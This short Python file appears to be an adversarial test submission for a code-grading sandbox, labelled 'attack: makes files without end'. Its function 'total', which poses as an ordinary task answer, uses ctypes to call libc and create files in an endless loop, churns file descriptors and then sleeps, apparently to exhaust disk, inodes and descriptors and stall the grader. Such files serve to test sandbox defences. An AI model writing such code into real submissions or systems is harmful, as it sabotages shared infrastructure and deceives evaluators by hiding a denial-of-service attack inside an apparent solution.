# attack: makes files without end
# expects: any

import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def total(numbers, known):
    n = 0
    while libc.creat(b'f%d' % n, 0o600) >= 0:
        libc.close(libc.open(b'/dev/null', 0)); n += 1
        libc.close(n % 400 + 5)
    libc.sleep(20)
